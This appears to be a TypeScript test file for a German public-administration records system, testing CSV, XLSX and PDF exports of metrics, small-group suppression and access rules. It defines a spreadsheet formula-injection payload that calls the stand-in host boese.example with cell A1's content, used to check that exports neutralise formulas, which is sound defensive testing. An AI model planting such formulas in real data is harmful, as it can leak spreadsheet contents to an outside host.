import type { FastifyInstance } from "fastify";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../../app.js";
import { ManualClock } from "../../platform/clock.js";
import { anfrage } from "../../../../test/helpers/anfrage.js";
import { createTestContext, type TestContext } from "../../../../test/helpers/context.js";
import {
  akteurVon,
  createOe,
  createUser,
  login,
  neueAkte,
  neuerVorgang,
  type Session,
} from "../../../../test/helpers/factories.js";
import { pdfText } from "../../../../test/helpers/pdf.js";
import type { Benutzer } from "../access/access.types.js";
import { importTestAktenplan } from "../../../../test/helpers/schriftgut.js";
import { berechneTage } from "./berechnung.service.js";
import { planmaessigerBericht } from "./bericht.service.js";

const clock = new ManualClock("2026-03-02T08:00:00Z");
let ctx: TestContext;
let app: FastifyInstance;
const s: Record<string, Session> = {};
let vorgangDerStabsstelle = "";
const BOESE = '=HYPERLINK("http://boese.example/?"&A1;"Klick")';

const get = (wer: string, pfad: string) => anfrage(app, s[wer]!, "GET", pfad);

/**
 * A small county: an Amt with six people whose name is a spreadsheet formula, a Jugendamt with
 * six, an Amt of two (suppressed), and the Stabsstelle E-Government with the Steuerung, which
 * also works on its own Akten there.
 */
beforeAll(async () => {
  ctx = await createTestContext({ clock });
  const d = await createOe(ctx, { kuerzel: "D2", name: "Dezernat 2", art: "Dezernat" });
  await createOe(ctx, { kuerzel: "63", name: BOESE, uebergeordnet: "D2" });
  await createOe(ctx, { kuerzel: "51", name: "Jugendamt", uebergeordnet: "D2" });
  await createOe(ctx, { kuerzel: "70", name: "Umweltamt", uebergeordnet: "D2" });
  await createOe(ctx, { kuerzel: "ST", name: "Stabsstelle E-Government", art: "Stabsstelle" });
  await createOe(ctx, { kuerzel: "11", name: "Personalamt" });
  void d;
  await importTestAktenplan(ctx);
  app = await buildApp(ctx);
  for (let i = 1; i <= 6; i++)
    await createUser(ctx, { benutzername: `b${i}`, rollen: [{ oe: "63", rolle: "Sachbearbeitung" }] });
  for (let i = 1; i <= 6; i++)
    await createUser(ctx, { benutzername: `j${i}`, rollen: [{ oe: "51", rolle: "Sachbearbeitung" }] });
  for (let i = 1; i <= 2; i++)
    await createUser(ctx, { benutzername: `u${i}`, rollen: [{ oe: "70", rolle: "Sachbearbeitung" }] });
  const steuer = await createUser(ctx, {
    benutzername: "steuer",
    rollen: [
      { oe: "ST", rolle: "Steuerung" },
      { oe: "ST", rolle: "Sachbearbeitung" },
    ],
  });
  await createUser(ctx, { benutzername: "leiter63", rollen: [{ oe: "63", rolle: "Leitung" }] });

  const b1 = await akteurVon(
    ctx,
    (await ctx.db.query<Benutzer>(`SELECT * FROM benutzer WHERE benutzername = 'b1'`)).rows[0]!,
  );
  for (const papier of [null, null, null, "Regal 4"])
    await neueAkte(ctx, b1, { federfuehrendeOe: "63", papierablage: papier });
  const st = await akteurVon(ctx, steuer);
  const akte = await neueAkte(ctx, st, {
    federfuehrendeOe: "ST",
    betreff: "Verwaltungsberichte E-Government",
  });
  vorgangDerStabsstelle = (await neuerVorgang(ctx, st, akte.id, { betreff: "Berichte an den Kreistag" })).id;
  clock.set("2026-04-01T08:00:00Z");
  await berechneTage(ctx, "2026-03-01", "2026-03-31");
  for (const name of ["steuer", "leiter63", "b1"]) s[name] = await login(app, name);
});
afterAll(async () => {
  await app?.close();
  await ctx?.cleanup();
});

describe("Export der Kennzahlen", () => {
  it("CSV for Excel: BOM, semicolons, German headers, suppressed groups as < 5, formulas defused", async () => {
    const r = await get("steuer", "/steuerung/kennzahlen.csv?von=2026-03&bis=2026-03&oe=kreis");
    expect(r.statusCode, r.body).toBe(200);
    expect(r.headers["content-type"]).toMatch(/text\/csv/);
    expect(r.headers["content-disposition"]).toMatch(/kennzahlen-2026-03-2026-03\.csv/);
    expect(r.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const zeilen = r.body
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    expect(zeilen[0]).toBe("OE-Kürzel;Organisationseinheit;Personen;Kennzahl;Einheit;2026-03");
    const kreis = zeilen.find((z) => z.includes("Neue Akten elektronisch geführt") && z.startsWith("Kreis;"));
    expect(kreis).toBe("Kreis;Kreisverwaltung gesamt;16;Neue Akten elektronisch geführt;%;80");
    // The formula-named Amt: shown (six people), its name starts with an apostrophe.
    const amt = zeilen.find((z) => z.startsWith("63;"))!;
    expect(amt).toContain(`"'=HYPERLINK(""http://boese.example/?""&A1;""Klick"")"`);
    expect(zeilen.some((z) => /^"?=/.test(z.split(";")[1] ?? ""))).toBe(false);
    // The Umweltamt of two people is nowhere (hidden below the county).
    expect(r.body).not.toContain("Umweltamt");
  });

  it("a group under five people gets < 5 in every cell", async () => {
    const r = await get("steuer", `/steuerung/kennzahlen.csv?von=2026-03&bis=2026-03&oe=${await oeId("70")}`);
    expect(r.statusCode, r.body).toBe(200);
    const zeilen = r.body.trim().split("\r\n").slice(1);
    expect(zeilen.length).toBeGreaterThan(5);
    for (const z of zeilen) expect(z).toMatch(/^70;Umweltamt;< 5;.*;< 5$/);
  });

  it("XLSX with the same table, formulas as text, and the same 404 for another Amt", async () => {
    const r = await get("steuer", "/steuerung/kennzahlen.xlsx?von=2026-02&bis=2026-03");
    expect(r.statusCode, r.body).toBe(200);
    const buch = new ExcelJS.Workbook();
    await buch.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const blatt = buch.getWorksheet("Kennzahlen")!;
    expect(blatt.getRow(1).values).toEqual([
      undefined,
      "OE-Kürzel",
      "Organisationseinheit",
      "Personen",
      "Kennzahl",
      "Einheit",
      "2026-02",
      "2026-03",
    ]);
    const werte = blatt
      .getSheetValues()
      .flat()
      .filter((v) => typeof v === "string");
    expect(werte).toContain(`'${BOESE}`);
    expect(werte).not.toContain(BOESE);
    // No cell holds a formula.
    blatt.eachRow((row) => row.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
    expect(
      (await get("leiter63", `/steuerung/kennzahlen.xlsx?von=2026-03&bis=2026-03&oe=${await oeId("51")}`))
        .statusCode,
    ).toBe(404);
    expect((await get("b1", "/steuerung/kennzahlen.csv?von=2026-03&bis=2026-03")).statusCode).toBe(403);
    expect((await get("steuer", "/steuerung/kennzahlen.csv?von=2026-13&bis=2026-03")).statusCode).toBe(400);
  });
});

describe("Verwaltungsbericht E-Government", () => {
  it("without a target Vorgang the Steuerung is told to choose one", async () => {
    const r = await anfrage(app, s.steuer!, "POST", "/steuerung/berichte", {
      von: "2026-03",
      bis: "2026-03",
    });
    expect(r.statusCode).toBe(409);
    expect(r.json().detail).toMatch(/Vorgang/);
  });

  it("is filed as a Dokument in the Stabsstelle's Akte; its pages carry title, figures and vector charts", async () => {
    const e = await anfrage(app, s.steuer!, "PUT", "/steuerung/berichte/einstellung", {
      vorgangId: vorgangDerStabsstelle,
      turnus: "monatlich",
    });
    expect(e.statusCode, e.body).toBe(200);
    // The setting names its Vorgang as the picker does, so the form shows Zeichen and Betreff, not an id.
    const { vorgang } = e.json() as { vorgang: { id: string; text: string } | null };
    expect(vorgang?.id).toBe(vorgangDerStabsstelle);
    expect(vorgang?.text).toMatch(/^\S+-\d+ \S/);
    const r = await anfrage(app, s.steuer!, "POST", "/steuerung/berichte", {
      von: "2026-02",
      bis: "2026-03",
    });
    expect(r.statusCode, r.body).toBe(201);
    const bericht = r.json() as { dokumentId: string; vorgangId: string; titel: string };
    expect(bericht.vorgangId).toBe(vorgangDerStabsstelle);
    const dok = await get("steuer", `/dokumente/${bericht.dokumentId}`);
    expect(dok.statusCode).toBe(200);
    expect(dok.json()).toMatchObject({ titel: "Verwaltungsbericht E-Government 2026-02 bis 2026-03" });
    const inhalt = await get("steuer", `/dokumente/${bericht.dokumentId}/versionen/1/inhalt`);
    expect(inhalt.statusCode).toBe(200);
    const pdf = inhalt.rawPayload;
    const text = await pdfText(pdf);
    expect(text).toContain("Verwaltungsbericht E-Government");
    expect(text).toContain("Februar 2026 bis März 2026");
    expect(text).toContain("Neue Akten elektronisch geführt");
    expect(text).toContain("Definitionen der Kennzahlen");
    // The chart's axis labels are text in the PDF, not pixels.
    expect(text).toContain("Mär 26");
    expect(text).not.toContain("Umweltamt");
    expect(await bilderUndPfade(pdf)).toMatchObject({ bilder: 0 });
    expect((await bilderUndPfade(pdf)).pfade).toBeGreaterThan(50);
  });

  it("the schedule files the report on the month just over once", async () => {
    clock.set("2026-05-02T08:00:00Z");
    expect(await planmaessigerBericht(ctx)).toBe("2026-04");
    expect(await planmaessigerBericht(ctx)).toBeNull();
    const { rows } = await ctx.db.query(
      `SELECT titel FROM dokument WHERE vorgang_id = $1 AND titel LIKE 'Verwaltungsbericht%' ORDER BY titel`,
      [vorgangDerStabsstelle],
    );
    expect(rows.map((r) => r.titel)).toEqual([
      "Verwaltungsbericht E-Government 2026-02 bis 2026-03",
      "Verwaltungsbericht E-Government 2026-04",
    ]);
  });

  it("only the Steuerung makes reports; a Vorgang it may not write to is refused", async () => {
    for (const name of ["steuer", "leiter63"]) s[name] = await login(app, name);
    expect(
      (await anfrage(app, s.leiter63!, "POST", "/steuerung/berichte", { von: "2026-03", bis: "2026-03" }))
        .statusCode,
    ).toBe(403);
    const b1 = await akteurVon(
      ctx,
      (await ctx.db.query<Benutzer>(`SELECT * FROM benutzer WHERE benutzername = 'b1'`)).rows[0]!,
    );
    const fremd = await neuerVorgang(ctx, b1, (await neueAkte(ctx, b1, { federfuehrendeOe: "63" })).id);
    const r = await anfrage(app, s.steuer!, "PUT", "/steuerung/berichte/einstellung", {
      vorgangId: fremd.id,
      turnus: "aus",
    });
    expect([403, 404]).toContain(r.statusCode);
    expect((await get("steuer", "/steuerung/berichte/einstellung")).json()).toMatchObject({
      vorgangId: vorgangDerStabsstelle,
      turnus: "monatlich",
    });
  });
});

async function oeId(kuerzel: string): Promise<string> {
  return (await ctx.db.query(`SELECT id FROM organisationseinheit WHERE kuerzel = $1`, [kuerzel])).rows[0]!
    .id as string;
}

/** Raster images and vector paths drawn on all pages (pdf.js operator lists). */
async function bilderUndPfade(inhalt: Buffer): Promise<{ bilder: number; pfade: number }> {
  const pdfjs = await import("pdfjs-dist/legacy/build/pdf.mjs");
  const doc = await pdfjs.getDocument({ data: new Uint8Array(inhalt), isEvalSupported: false, verbosity: 0 })
    .promise;
  let bilder = 0;
  let pfade = 0;
  try {
    for (let n = 1; n <= doc.numPages; n++) {
      const ops = await (await doc.getPage(n)).getOperatorList();
      for (const op of ops.fnArray) {
        if (
          [
            pdfjs.OPS.paintImageXObject,
            pdfjs.OPS.paintInlineImageXObject,
            pdfjs.OPS.paintImageMaskXObject,
          ].includes(op)
        )
          bilder++;
        if (op === pdfjs.OPS.constructPath) pfade++;
      }
    }
  } finally {
    await doc.destroy();
  }
  return { bilder, pfade };
}
